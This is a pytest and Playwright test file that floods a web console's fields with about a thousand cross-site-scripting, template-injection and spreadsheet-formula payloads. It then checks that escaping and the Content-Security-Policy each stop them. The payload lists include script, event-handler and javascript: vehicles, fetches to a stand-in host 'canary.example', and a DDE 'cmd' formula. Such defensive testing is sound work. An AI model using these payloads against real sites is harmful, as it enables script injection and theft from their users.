"""A thousand scripts through every field that a stranger fills: on no page of the console does one run.

The pages are opened with their Content-Security-Policy switched off, so that escaping alone has to hold; a second test
puts the same scripts into a page unescaped, so that the policy alone has to hold. A third shows that the trap works.
"""

from __future__ import annotations

import itertools
import json
import re
import zlib
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Error, Page, Route
from queue_room import Room
from staff_people import Clock, Person
from test_console_morning import chromium_started, serving

from console.house import House
from pii.redacted import Redacted
from tickets.conversations import Conversations
from tickets.inbox import Incoming
from tickets.outbox import Letter, post
from tickets.vocabulary import Finding, Right, Role, VoteReason, Way
from tickets.votes import Vote

ALL = 1_000
CANARY = "canary.example"
LONGEST, LONGEST_QUESTION = 3_900, 980  # of a text and of a finding's question, less than what they may hold

ACTIONS = (
    "canary({n})",
    "top.canary({n})",
    "alert({n})",
    "fetch('//canary.example/{n}')",
    "location='//canary.example/{n}'",
)
BREAKOUTS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</q></li>",
    '" autofocus ',
    "<![CDATA[",
    "]]>",
    "\u202e",
)
VEHICLES = (
    "<script>{act}</script>",
    "<ScRiPt/x>{act}//</sCrIpT>",
    "<img src=x onerror={act}>",
    '<svg onload="{act}">',
    "<svg><script>{act}</script></svg>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    '<iframe srcdoc="<script>{act}</script>">',
    '<iframe src="javascript:{act}"></iframe>',
    "<video><source onerror={act}></video>",
    '<a href="javascript:{act}">x</a>',
    '<math><a xlink:href="javascript:{act}">x</a></math>',
    "<style onload={act}></style>",
    '" onmouseover="{act}" x="',
    "<form action=javascript:{act}><button autofocus>x</button></form>",
    "<body onpageshow={act}>",
)
OTHERS = (
    "{{{{ {n}*7 }}}}",
    "{{% include 'x{n}' %}}",
    "${{{{canary({n})}}}}",
    "#{{canary({n})}}",
    "<%= {n}*7 %>",
    '=HYPERLINK("//canary.example/{n}","x")',
    "=cmd|'/C calc'!A{n}",
    "@SUM({n}+1)",
    "javascript:canary({n})",
    "data:text/html,<script>top.canary({n})</script>",
    "＜script＞canary({n})＜/script＞",
    "\ufeff<script>canary({n})</script>",
    "<\u200bscript>canary({n})</script>",
    "&lt;script&gt;canary({n})&lt;/script&gt;",
    "&#60;script&#62;canary({n})&#60;/script&#62;",
    "\\u003cscript\\u003ecanary({n})\\u003c/script\\u003e",
    "%3Cscript%3Ecanary({n})%3C/script%3E",
    '<div hx-get="//canary.example/{n}" hx-trigger="load">x</div>',
    "<div hx-on::load=canary({n})>x</div>",
    '<div data-hx-get="/staff" hx-trigger="load" hx-vals="js:{{x:canary({n})}}">x</div>',
    '<link rel=stylesheet href="//canary.example/{n}">',
    '<base href="//canary.example/{n}/">',
    "<object data=//canary.example/{n}></object>",
    "<img src=//canary.example/{n}>",
    "<script src=//canary.example/{n}></script>",
)
SNIPPET = 120  # characters of a text that the queue shows
SHOWN_AT = ("blockquote.words", *(f".talk .{kind} p.text" for kind in ("person", "note", "reply", "answer")))
LEADING_AWAY = ("<base ",)  # it would take the page's own files away: not for the tests in which texts are not escaped


def payloads() -> list[str]:
    """A thousand different ones; each carries its number."""
    every = [other for other in OTHERS for _ in range(4)]
    every += [
        breakout + vehicle.replace("{act}", action)
        for breakout, vehicle, action in itertools.product(BREAKOUTS, VEHICLES, ACTIONS)
    ]
    return [_numbered(text, number) for number, text in enumerate(every[:ALL], 101)]


def _numbered(text: str, number: int) -> str:
    return text.format(n=number) if text in OTHERS else text.replace("{n}", str(number))


def packs(longest: int) -> Iterator[list[str]]:
    """All of them, in lists that fit into one text."""
    pack: list[str] = []
    for one in payloads():
        if pack and sum(map(len, pack)) + len(pack) + len(one) > longest:
            yield pack
            pack = []
        pack.append(one)
    yield pack


@dataclass
class Trap:
    """A page, and what ran or asked for something in it."""

    page: Page
    caught: list[str] = field(default_factory=list)

    def open(self, url: str) -> None:
        """Open a page of the console: that one, not the login."""
        answer = self.page.goto(url)
        assert answer is not None and (answer.status, answer.url) == (200, url)


@contextmanager
def trapped(chromium: Browser, url: str, person: Person | None = None, *, bypass_csp: bool) -> Iterator[Trap]:
    """A browser that notices: called functions, dialogs, and what asks the canary's host for anything."""
    context = chromium.new_context(bypass_csp=bypass_csp)
    context.set_default_timeout(10_000)
    trap = Trap(context.new_page())
    context.expose_function("canary", lambda number=0: trap.caught.append(f"canary {number}"))

    def asked_for(route: Route) -> None:  # what the page's policy stops never comes as far as here
        trap.caught.append(route.request.url)
        route.abort()

    context.route(f"**://{CANARY}/**", asked_for)

    def dismissed(dialog: object) -> None:
        trap.caught.append("dialog")
        dialog.dismiss()  # type: ignore[attr-defined]

    context.on("dialog", dismissed)
    if person is not None:
        context.add_cookies([{"name": "desk", "value": person.client.cookies["desk"], "url": url}])
    try:
        yield trap
    finally:
        context.close()


@dataclass
class Flood:
    """A console that strangers have written to. written: by reference, all that one request was filled with."""

    url: str
    room: Room
    written: dict[str, list[str]] = field(default_factory=dict)

    def fill(self) -> None:
        """Every field: request, conversation, answer, vote, finding, staff's note and reply, what got stuck."""
        for pack in packs(LONGEST):
            reference = self.file(pack)
            self.written[reference] = pack
        self.file_each()
        for number, pack in enumerate(packs(LONGEST_QUESTION)):
            self.ask("\n".join(pack), list(Finding)[number % len(Finding)])
        self.get_stuck()

    def file(self, pack: Sequence[str]) -> str:
        """A request whose every text is hostile; it waits for the answer, gets it and is remarked upon."""
        house, now, text = self.room.house, self.room.clock.now, "\n".join(pack)
        reference = self.room.in_progress(Right.ACCESS, text=text, contact=f"one{self.room.filed}@example.org")
        conversation = f"conversation-{self.room.filed}"
        house.decisions.ask_requester(reference, "Which account is it?", "staff:0", now)
        assert house.handling.answered(conversation, text, now)
        house.handling.note(reference, text, "staff:0", now)
        house.handling.reply(reference, text, "staff:0", now)
        Conversations(house.store, house.vault).save(conversation, conversation_of(pack), now)
        house.votes.cast(vote(conversation, text), now)
        return reference

    def file_each(self) -> None:
        """Requests so short that the lists, which show how a text begins, hold every one."""
        for pack in packs(SNIPPET):
            self.room.file(Right.QUESTION, text="\n".join(pack), contact="")

    def ask(self, question: str, kind: Finding) -> None:
        """A question that was not answered well."""
        version = self.room.house.knowledge.get("klasso").current.version
        self.room.house.findings.note("klasso", version, kind, "", Redacted(question), self.room.clock.now)

    def get_stuck(self) -> None:
        """A message that is set aside and a letter that is given up, each full of scripts."""
        house, now, text = self.room.house, self.room.clock.now, "\n".join(payloads()[::40])
        arrived = Incoming("telegram:12345", "key", "lane", Redacted(text))
        item = house.inbox.receive(arrived, now, take=True).item
        while item is not None and not house.inbox.failed(item, "KeyError", now):
            now += timedelta(days=1)
            (item,) = house.inbox.lease(now)
        letter = Letter(Way.MAIL, "x@example.org", "fulfilled", Redacted("x@example.org"), "About", text)
        with house.store.unit() as unit:
            name = post(unit, house.vault, letter, now)
            unit.commit()
        for parcel in house.outbox.lease(now, limit=500):
            if parcel.id == name:
                house.outbox.refused(parcel, "smtp_550", now)

    def pages(self) -> list[str]:
        """Every page of the console that is read."""
        policy = "klasso"
        views = ("all_open", "overdue", "due_soon", "unassigned", "mine", "awaiting_requester", "unverified", "closed")
        plain = ["/queue/new", "/queue/rows?view=all_open", "/reports", "/reports/dossier", "/letters", "/staff"]
        plain += ["/account", "/knowledge", f"/knowledge/{policy}", "/findings", f"/findings?policy={policy}"]
        plain += [f"/queue?view={view}" for view in views] + [f"/findings?kind={kind.value}" for kind in Finding]
        plain += [f"/findings/{group.id}" for group in self.room.house.findings.groups()]
        first = next(iter(self.written))
        plain += [f"/requests/{first}/{move}" for move in ("ask", "extend", "refer", "refuse", "await-controller")]
        return plain + [f"/requests/{reference}" for reference in self.written]


def vote(conversation: str, text: str) -> Vote:
    """What somebody says of an answer."""
    said, why = Redacted(text), next(iter(VoteReason))
    return Vote(conversation, "m1", "klasso", "2026-04", "", "states", (), False, why, said, said)


def conversation_of(pack: Sequence[str]) -> bytes:
    """A conversation as the dialogue keeps it: typed, said back, quoted, and in a button."""
    text = "\n".join(pack)
    quoted = {"quotes": [{"url": f"/p/klasso/1{pack[0]}", "section": pack[-1], "text": text}]}
    events = [
        {"event": "user", "text": f"x {text}", "timestamp": 1_770_000_000},
        {"event": "bot", "text": text, "data": {"custom": {"answer": quoted}}, "timestamp": 1_770_000_001},
        {"event": "user", "text": f"/{pack[0]}", "timestamp": 1_770_000_002},
        {"event": "user", "text": "/ask" + json.dumps({"x": text}), "timestamp": 1_770_000_003},
    ]
    return zlib.compress(json.dumps({"events": events}).encode())


@pytest.fixture
def flood(house: House, clock: Clock, tmp_path: Path) -> Iterator[Flood]:
    with serving(house, tmp_path) as url:
        yield Flood(url, Room(house, clock))


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with chromium_started() as opened:
        yield opened


# Finds what would run later, when somebody clicks or hovers, and elements where there should be text alone.
PLACES = (".words", ".talk p.text", ".talk q", ".snippet", ".finding h2", ".finding li", "label.tick span", "textarea")
LIVE = """() => {
  const links = ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"];
  const isCode = (one) => one.name.startsWith("on") || /^(data-)?hx-on/.test(one.name);
  const leads = (one) => /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript):/i.test(one.value)
    || /canary[.]example/.test(new URL(one.value, location.href).host);
  const isLive = (one) => isCode(one) || links.includes(one.name) && leads(one);
  const found = [];
  for (const element of document.querySelectorAll("*"))
    for (const one of element.attributes) if (isLive(one)) found.push(`${element.tagName} ${one.name}`);
  for (const element of document.querySelectorAll("PLACES")) found.push(`inside a text: ${element.tagName}`);
  return found;
}""".replace("PLACES", ", ".join(f"{place} *" for place in PLACES))


def test_there_are_a_thousand_different_ones_and_at_least_forty_go_into_a_text() -> None:
    every = payloads()
    assert len(every) == len(set(every)) == ALL
    assert all(any(part in one for one in every) for vehicle in VEHICLES for part in vehicle.split("{act}"))
    assert min(len(pack) for pack in list(packs(LONGEST))[:-1]) >= 40


def test_none_runs_on_any_page_and_each_is_shown_as_text(chromium: Browser, flood: Flood) -> None:
    flood.fill()
    admin = flood.room.person(Role.ADMIN, "admin-one")
    assert flood.room.house.inbox.quarantined() and flood.room.house.outbox.dead()
    live: dict[str, list[str]] = {}
    missing: dict[str, list[str]] = {}
    with trapped(chromium, flood.url, admin, bypass_csp=True) as trap:
        for path in flood.pages():
            trap.open(f"{flood.url}{path}")
            if found := trap.page.evaluate(LIVE):
                live[path] = found[:5]
            reference = path.removeprefix("/requests/")
            for selector in SHOWN_AT if reference in flood.written else ():
                shown = trap.page.locator(selector).first.text_content() or ""
                if lost := [one for one in flood.written[reference] if one not in shown]:
                    missing[f"{reference} {selector}"] = lost[:3]
        begun, asked = all_beginnings(trap, flood.url), all_questions(trap, flood.url)
        assert trap.caught == []
    assert live == {} and missing == {}
    assert [one for one in payloads() if one not in asked] == []
    assert [one for one in payloads() if " ".join(one.split())[:SNIPPET] not in begun] == []


def all_questions(trap: Trap, url: str) -> str:
    """What the list of findings shows as text."""
    trap.open(f"{url}/findings")
    return "\n".join(trap.page.locator(".finding h2, .finding li").all_text_contents())


def all_beginnings(trap: Trap, url: str) -> str:
    """How the texts begin, as the queue shows them, from its first page to its last."""
    found: list[str] = []
    trap.open(f"{url}/queue")
    while True:
        found += trap.page.locator("#rows .snippet").all_text_contents()
        assert trap.page.evaluate(LIVE) == []
        following = trap.page.query_selector("a[rel=next]")
        if following is None:
            return "\n".join(found)
        trap.open(f"{url}{following.get_attribute('href')}")


def test_what_is_searched_for_comes_back_as_text(chromium: Browser, flood: Flood) -> None:
    flood.file(payloads()[:40])
    agent = flood.room.person(Role.AGENT, "agent-one")
    with trapped(chromium, flood.url, agent, bypass_csp=True) as trap:
        for one in payloads()[::90]:
            trap.open(f"{flood.url}/queue")
            trap.page.fill("#q", one)
            trap.page.press("#q", "Enter")
            trap.page.wait_for_url("**/queue/search")
            assert trap.page.input_value("#q") == one and trap.page.evaluate(LIVE) == []
        assert trap.caught == []


def test_a_login_that_leads_elsewhere_leads_to_the_queue(chromium: Browser, flood: Flood) -> None:
    with trapped(chromium, flood.url, bypass_csp=True) as trap:
        for one in (*payloads()[::150], f"//{CANARY}/1", f"https://{CANARY}/2", f"/\\{CANARY}/3"):
            trap.page.goto(f"{flood.url}/login?next={quote(one)}")
            assert trap.page.locator("input[name=next]").input_value() == "/queue"
            assert trap.page.evaluate(LIVE) == []
        assert trap.caught == []


def raw(page: Page, texts: Sequence[str]) -> None:
    """From now on, /account carries these unescaped."""

    def spoilt(route: Route) -> None:
        answer = route.fetch()
        body = answer.text().replace("</main>", "\n".join(f"<div>{one}</div>" for one in texts) + "</main>")
        route.fulfill(response=answer, body=body)

    page.route("**/account", spoilt)


def one_at_a_time() -> list[str]:
    """One of each vehicle as it stands in a page, without those that would take the page away."""
    acting = [vehicle.replace("{act}", "canary({n})") for vehicle in VEHICLES] + list(OTHERS)
    return [
        _numbered(text, number)
        for number, text in enumerate(acting, 101)
        if not any(word in text for word in LEADING_AWAY)
    ]


def test_the_trap_springs_where_texts_are_not_escaped(chromium: Browser, flood: Flood) -> None:
    agent, sprung = flood.room.person(Role.AGENT, "agent-one"), 0
    with trapped(chromium, flood.url, agent, bypass_csp=True) as trap:
        raw(trap.page, one_at_a_time())
        trap.open(f"{flood.url}/account")
        trap.page.wait_for_timeout(500)
        sprung = len({re.sub(r"\D", "", one) for one in trap.caught})
        assert trap.page.evaluate(LIVE) != []
    assert sprung >= 10, trap.caught


def test_where_one_got_through_the_policy_of_the_page_would_stop_it(chromium: Browser, flood: Flood) -> None:
    agent = flood.room.person(Role.AGENT, "agent-one")
    with trapped(chromium, flood.url, agent, bypass_csp=False) as trap:
        raw(trap.page, one_at_a_time())
        trap.open(f"{flood.url}/account")
        trap.page.wait_for_timeout(500)
        links = trap.page.locator("main a[href^='javascript:']")
        for number in range(links.count()):
            try:
                links.nth(number).click(timeout=1_000, force=True)
            except Error:
                continue  # it is not where a pointer gets to
        assert trap.page.evaluate("document.querySelector('main img[onerror]') !== null")
        assert trap.caught == []
